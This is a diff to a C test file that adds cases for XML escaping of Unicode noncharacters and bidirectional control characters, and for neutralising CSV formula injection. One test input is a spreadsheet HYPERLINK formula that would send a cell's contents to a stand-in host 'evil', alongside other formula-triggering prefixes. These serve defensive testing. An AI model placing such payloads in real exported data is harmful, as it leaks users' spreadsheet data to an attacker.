@@ -192,6 +192,45 @@ static void test_escaping(void) {
   ck_csv_field(&b, "", 0);
   STR_EQ(ck_buf_cstr(&b), "\"say \"\"hi\"\", ok\",\"\"", "CSV fields through libcsv");
 
+  /* XML forbids U+FFFE and U+FFFF; bidirectional controls are shown as
+     their code points in XML (HTML, JUnit) and in text. */
+  ck_buf_reset(&b);
+  const char nonchars[] = "a\xEF\xBF\xBE b\xEF\xBF\xBF c\xEF\xBF\xBD";
+  ck_escape_xml(nonchars, sizeof nonchars - 1, &b);
+  STR_EQ(ck_buf_cstr(&b), "a\xEF\xBF\xBD b\xEF\xBF\xBD c\xEF\xBF\xBD",
+         "U+FFFE and U+FFFF replaced in XML");
+  ck_buf_reset(&b);
+  const char bidi[] = "5 \xE2\x80\xAE\xC3\xA5r\xE2\x80\xAC \xE2\x81\xA6x\xE2\x81\xA9"
+                      "\xE2\x80\x8F\xD8\x9C\xE2\x80\x94";
+  ck_escape_xml(bidi, sizeof bidi - 1, &b);
+  STR_EQ(ck_buf_cstr(&b),
+         "5 &lt;U+202E&gt;\xC3\xA5r&lt;U+202C&gt; &lt;U+2066&gt;x&lt;U+2069&gt;&lt;U+200F&gt;"
+         "&lt;U+061C&gt;\xE2\x80\x94",
+         "bidirectional controls visible in XML, a dash kept");
+  ck_buf_reset(&b);
+  ck_put_visible(&b, bidi, sizeof bidi - 1);
+  STR_EQ(ck_buf_cstr(&b),
+         "5 <U+202E>\xC3\xA5r<U+202C> <U+2066>x<U+2069><U+200F><U+061C>\xE2\x80\x94",
+         "bidirectional controls visible in text");
+
+  /* CSV injection: cells a spreadsheet would run as formulas, or strip to
+     reach one, start with an apostrophe; others, and a sign inside, stay. */
+  const char *formulas[][2] = {
+      {"=HYPERLINK(\"http://evil/?\"&A1)", "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1)\""},
+      {"+1+2", "\"'+1+2\""},
+      {"-2+3", "\"'-2+3\""},
+      {"@SUM(A1)", "\"'@SUM(A1)\""},
+      {"\t=1", "\"'\t=1\""},
+      {"\r=1", "\"'\r=1\""},
+      {"a=1", "\"a=1\""},
+      {"'=1", "\"'=1\""},
+  };
+  for (size_t i = 0; i < sizeof formulas / sizeof *formulas; i++) {
+    ck_buf_reset(&b);
+    ck_csv_field(&b, formulas[i][0], strlen(formulas[i][0]));
+    STR_EQ(ck_buf_cstr(&b), formulas[i][1], "CSV field that could be a formula");
+  }
+
   ck_buf_reset(&b);
   char big[1200];
   memset(big, '"', sizeof big - 1);
